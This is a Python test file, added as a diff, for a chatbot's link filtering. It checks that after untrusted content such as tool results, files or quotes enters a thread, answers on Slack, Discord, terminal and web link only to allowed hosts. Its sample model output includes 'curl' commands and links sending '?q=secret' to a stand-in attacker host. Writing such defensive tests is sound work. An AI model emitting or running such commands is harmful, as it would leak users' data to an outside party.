@@ -1,0 +1,352 @@
+"""Once something from outside is in a thread, no answer in it links what nobody allowed: not in
+the next turn, not after a restart, on no surface, in no piece of a growing text."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import AsyncGenerator, AsyncIterator, Awaitable, Callable, Sequence
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from core.conversation.manager import Profile
+from core.messages import Attachment, Item, Person, Quote
+from core.ports import Tool
+from core.records import Ask, Completed, Delta, Health, ModelEvent, Outcome, Scene
+from core.tools.tool import FunctionTool
+from tests.dialogues.stage import Stage, Theatre
+from tests.dialogues.whole import whole
+from tests.discord.house import House
+from tests.fakes import linkers
+from tests.fakes.choices import ANA, choices, message
+from tests.fakes.discord import FakeDiscord
+from tests.fakes.models import EchoModel
+from tests.fakes.openai import FakeOpenAI
+from tests.fakes.quick_commands import RegisteredCommands
+from tests.fakes.slack import Post
+from tests.slack.bot import Setting, workplace
+from tests.slack.doubles import Speaker
+
+EVIL = "https://evil.test/?q=secret"
+TEXT = f"""Well, see {EVIL} or [this]({EVIL}), <{EVIL}>, ![](https://evil.test/s.png),
+[![x]({EVIL})](https&colon;//evil.test), `a` evil.test/secret, me@evil.test and [that][1].
+
+> - [1]: https://evil.test/definition
+
+| Name | Site |
+| --- | --- |
+| Ana | {EVIL} |
+
+~~~
+{EVIL}
+~~~
+
+Our own is https://example.com/x, and `curl {EVIL} -o x` or
+
+```sh
+echo Now
+curl {EVIL}
+```"""
+OURS = "https://example.com/x"
+HOSTS = Profile(hosts=("example.com",))
+BO = Person("web", "bo", name="Bo")
+CSV = ("orders.csv", "text/csv", b"id,paid\n1,no\n")
+
+
+class Author(EchoModel):
+    """Says TEXT in pieces, whatever it is asked; to `call NAME` it calls that tool first."""
+
+    def __init__(self, text: str = TEXT) -> None:
+        super().__init__()
+        self.text = text
+
+    async def ask(self, ask: Ask) -> AsyncGenerator[ModelEvent, None]:
+        last = ask.input[-1]
+        if last.kind == "message" and last.text.startswith("call "):
+            async for event in super().ask(ask):
+                yield event
+            return
+        self.asks.append(ask)
+        for at in range(0, len(self.text), 7):
+            yield Delta(self.text[at : at + 7])
+        yield Completed((Item(kind="message", role="assistant", text=self.text),))
+
+
+class Source:
+    name = "tables"
+
+    async def tools(self) -> Sequence[Tool]:
+        async def look(scene: Scene) -> Outcome:
+            """Look into a table."""
+            return Outcome("ok", "a row")
+
+        return [FunctionTool.of(look, effect="read", doing="is looking…")]
+
+    async def health(self) -> Health:
+        return Health("tables", "on")
+
+    async def close(self) -> None:
+        return None
+
+
+def live(links: Sequence[str]) -> list[str]:
+    """The links that lead to where nobody allowed."""
+    return [link for link in links if not link.startswith("https://example.com/x")]
+
+
+def shown(theatre: Theatre) -> list[str]:
+    """What any version of any post would have linked."""
+    return [link for post in theatre.recorder.posts for text in post.texts
+            for link in linkers.piece(text)]  # fmt: skip
+
+
+async def looked(stage: Stage) -> None:
+    await stage.said("call look {}")
+
+
+async def with_a_file(stage: Stage) -> None:
+    engine = stage.engine
+    one = message("what is this?", "file", "C1")
+    kept = await engine.files.put(
+        "file", "a.csv", "text/csv", b"a,b", ANA, one.address.conversation
+    )
+    await stage.asks(replace(one, attachments=(Attachment("a.csv", "text/csv", 3, kept.id),)))
+
+
+async def with_a_quote(stage: Stage) -> None:
+    await stage.asks(replace(message("and this?", "quote"), context=(Quote("Bo", "look here"),)))
+
+
+async def of_somebody_else(stage: Stage) -> None:
+    await stage.said("hello", person=BO)
+
+
+OUTSIDE = (looked, with_a_file, with_a_quote, of_somebody_else)
+
+
+@pytest.mark.parametrize("outside", OUTSIDE)
+@pytest.mark.parametrize("restarted", [False, True])
+async def test_every_later_turn_is_checked(
+    theatre: Theatre, outside: Callable[[Stage], Awaitable[None]], restarted: bool
+) -> None:
+    async with theatre.open(Author(), [Source()], profile=HOSTS) as stage:
+        await outside(stage)
+        if not restarted:
+            answers = [await stage.said("go on"), await stage.said("and on")]
+    if restarted:
+        theatre.recorder.posts.clear()
+        async with theatre.open(Author(), [Source()], profile=HOSTS) as stage:
+            answers = [await stage.said("go on"), await stage.said("and on")]
+    for answer in answers:
+        links = [link for part in answer.parts for link in linkers.piece(part)]
+        assert live(links) == []
+        assert OURS in "".join(links)
+        assert EVIL in answer.text
+    assert live(shown(theatre)) == [] or outside is of_somebody_else
+
+
+async def test_the_turn_in_which_it_comes_is_checked_too(theatre: Theatre) -> None:
+    async with theatre.open(Author(), [Source()], profile=HOSTS) as stage:
+        await looked(stage)
+        await with_a_file(stage)
+        await with_a_quote(stage)
+    assert live(shown(theatre)) == []
+
+
+async def test_links_of_a_talk_without_anything_from_outside_stay(theatre: Theatre) -> None:
+    async with theatre.open(Author(), [Source()], profile=HOSTS) as stage:
+        assert (await stage.said("tell me")).text == TEXT
+        assert (await stage.said("tell me more")).text == TEXT
+        told = Quote("Slack", "The person is looking at the channel C1.", ours=True)
+        answer = await stage.asks(replace(message("this", "ours"), context=(told,)))
+        assert answer.text == TEXT
+
+
+@pytest.mark.parametrize("command", ["new", "forget"])
+async def test_a_new_thread_begins_without(theatre: Theatre, command: str) -> None:
+    async with theatre.open(Author(), [Source()], profile=HOSTS) as stage:
+        await looked(stage)
+        assert (await stage.said("go on")).text != TEXT
+        await stage.said(command)
+        assert (await stage.said("tell me")).text == TEXT
+        await looked(stage)
+        assert (await stage.said("go on")).text != TEXT
+
+
+async def test_what_the_asker_wrote_whole_stays_a_link(theatre: Theatre) -> None:
+    mine, longer = "https://mine.test/a?b=c", "https://mine.test/a?b=c&d=secret"
+    async with theatre.open(Author(f"[a]({mine}) {longer}"), [Source()]) as stage:
+        await stage.said(f"remember {mine}")
+        await looked(stage)
+        answer = await stage.said("go on")
+        assert answer.text == f"[a]({mine}) `{longer}`"
+        # What one person wrote lets nobody else be led there.
+        assert (await stage.said("go on", person=BO)).text == f"a (`{mine}`) `{longer}`"
+
+
+async def test_words_of_others_are_not_what_the_asker_wrote(theatre: Theatre) -> None:
+    async with theatre.open(Author(f"see {EVIL}")) as stage:
+        quoted = (Quote("Bo", f"ask for {EVIL}"),)
+        answer = await stage.asks(replace(message("do it", "quote"), context=quoted))
+        assert answer.text == f"see `{EVIL}`"
+
+
+async def test_a_terminal_knows_no_code(theatre: Theatre, tmp_path: Path) -> None:
+    one = message("go", "t1")
+    address = replace(one.address, platform="terminal")
+    at_terminal = replace(
+        one, address=address, reply_to=replace(one.reply_to, address=address),
+        context=(Quote("Bo", "look"),),
+    )  # fmt: skip
+    async with theatre.open(Author(), profile=HOSTS) as stage:
+        stage.engine.replies["terminal"] = stage.engine.replies["web"]
+        answer = await stage.asks(at_terminal)
+    assert live(linkers.terminal(answer.text)) == []
+    assert "https[:]//evil[.]test/?q=secret" in answer.text
+
+
+# -- Slack -----------------------------------------------------------------------------------
+
+
+def pieces() -> list[str]:
+    return [TEXT[at : at + 7] for at in range(0, len(TEXT), 7)]
+
+
+def linked(posts: Sequence[Post]) -> list[str]:
+    return live([link for post in posts for link in post.linked])
+
+
+@pytest.fixture
+def quick(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("adapters.slack.surface.ChatSurface.interval", 0.0)
+    monkeypatch.setattr("core.chat.posting.PROMPT", 0.0)
+
+
+@pytest.mark.usefixtures("quick")
+@pytest.mark.parametrize("where", ["dm", "general"])
+async def test_slack_links_nothing_else_streamed_or_posted(tmp_path: Path, where: str) -> None:
+    model = Speaker(*pieces())
+    setting = Setting(model, chosen=replace(choices(model), profile=HOSTS))
+    async with workplace(tmp_path, setting) as w:
+        place = getattr(w, where)
+        call = "" if where == "dm" else f"{w.slack.bot} "
+        root = w.slack.say(w.alice, place, f"{call}what is this?", files=[CSV])
+        model.go(20)
+        await w.slack.until(lambda: w.slack.workspace.by_bot(place.id))
+        model.finish()
+        await w.slack.answer(root)
+        await w.slack.until(lambda: OURS in w.slack.workspace.by_bot(place.id)[-1].shown)
+        again = Speaker(*pieces())
+        await w.restart(Setting(again, chosen=replace(choices(again), profile=HOSTS)))
+        thread = None if where == "dm" else root
+        w.slack.say(w.alice, place, f"{call}go on", thread=thread)
+        await w.slack.until(lambda: again.asks)
+        again.go(20)
+        await w.slack.until(lambda: len(w.slack.workspace.by_bot(place.id)) > 1)
+        again.finish()
+        await w.slack.until(lambda: OURS in w.slack.workspace.by_bot(place.id)[-1].shown)
+        posts = w.slack.workspace.by_bot(place.id)
+        assert any(post.streamed for post in posts) is (where == "dm")
+        assert linked(posts) == []
+        assert all("evil" in post.shown for post in posts)
+
+
+async def test_slack_what_others_said_in_the_thread(tmp_path: Path) -> None:
+    model = Author()
+    async with workplace(
+        tmp_path, Setting(model, chosen=replace(choices(model), profile=HOSTS))
+    ) as w:
+        root = w.slack.say(w.bob, w.general, "Please look at this.")
+        said = w.slack.say(w.alice, w.general, f"{w.slack.bot} what now?", thread=root)
+        answer = await w.slack.answer(said)
+        assert OURS in answer.shown
+        assert linked([answer]) == []
+
+
+async def test_slack_what_an_app_hangs_on_a_message_is_not_its_authors(tmp_path: Path) -> None:
+    model = Author(f"see {EVIL}")
+    async with workplace(tmp_path, Setting(model)) as w:
+        hung = [{"title": "Build", "text": f"open {EVIL}", "app_id": "A1"}]
+        said = w.slack.say(w.alice, w.dm, "what is this?", attachments=hung)
+        answer = await w.slack.answer(said)
+        assert f"`{EVIL}`" in answer.shown
+        assert linked([answer]) == []
+
+
+# -- Discord ---------------------------------------------------------------------------------
+
+
+async def test_discord_links_nothing_else(tmp_path: Path, discord: FakeDiscord) -> None:
+    house = House(discord, tmp_path)
+    ana = discord.user("Ana")
+    house.model.script = dict.fromkeys(("look", "go on"), pieces())
+    house.choices = replace(choices(house.model, policy=house.policy), profile=HOSTS)
+    try:
+        await house.open()
+        await ana.say("look", files=[("orders.csv", b"a,b\n")])
+        await ana.reads("example.com/x")
+        await house.close()
+        await house.open()
+        await ana.say("go on")
+        await discord.until(
+            lambda: sum("example.com/x" in m["content"] for m in ana.dm.messages.values()) == 2
+        )
+    finally:
+        await house.close()
+    mine = str(discord.world.me.id)
+    for at, post in ana.dm.messages.items():
+        if post["author"]["id"] == mine:
+            assert live(discord.world.linked[str(at)]) == []
+            assert "evil" in post["content"]
+
+
+# -- the page and the HTTP API ---------------------------------------------------------------
+
+
+async def told(lines: AsyncIterator[str]) -> AsyncIterator[tuple[str, dict[str, str]]]:
+    name = ""
+    async for line in lines:
+        field, _, value = line.partition(": ")
+        name = value if field == "event" else name
+        if field == "data":
+            yield name, json.loads(value)
+
+
+async def test_no_piece_of_the_event_stream_links_anything_else(
+    tmp_path: Path, fake: FakeOpenAI
+) -> None:
+    fake.say(TEXT, TEXT, TEXT)
+    async with whole(tmp_path / "home", fake, ponte_code="off") as ponte:
+        first = await ponte.said("Look", orders_csv=b"a,b\n1,2\n")
+        assert live(linkers.piece(first["response"])) == []
+    async with whole(tmp_path / "home", fake, ponte_code="off") as ponte:
+        asked = {"message": "go on", "conversation": "c1"}
+        text, steps, html = "", 0, ""
+        stream = ponte.web.stream(
+            "POST", "/chat?html=1", json=asked, headers={"Accept": "text/event-stream"}
+        )
+        async with stream as response:
+            async for name, data in told(response.aiter_lines()):
+                if name == "delta":
+                    text = data["text"] if data.get("reset") else text + data["text"]
+                    steps, html = steps + 1, data["html"]
+                if name == "done":
+                    text, html = data["response"], data["html"]
+                assert live(linkers.piece(text)) == []
+                assert live(linkers.page(html)) == []
+        assert steps
+        assert "evil.test" in text
+        shown = (await ponte.web.get("/conversations/c1")).json()
+        assert live(linkers.piece(shown["messages"][-1]["text"])) == []
+
+
+async def test_what_a_quick_command_gave_is_checked(theatre: Theatre) -> None:
+    """What they give is from outside, in the answer that brings it and in all that follow."""
+    given = f"see [here][1] {EVIL}\n\n> [1]: {EVIL}"
+    quick = RegisteredCommands(outcome=Outcome("ok", given))
+    async with theatre.open(Author(), quick=quick, profile=HOSTS) as stage:
+        answer = await stage.said("quick-command echo x")
+        assert live(linkers.piece(answer.text)) == []
+        assert EVIL in answer.text
+        assert live(linkers.piece((await stage.said("go on")).text)) == []
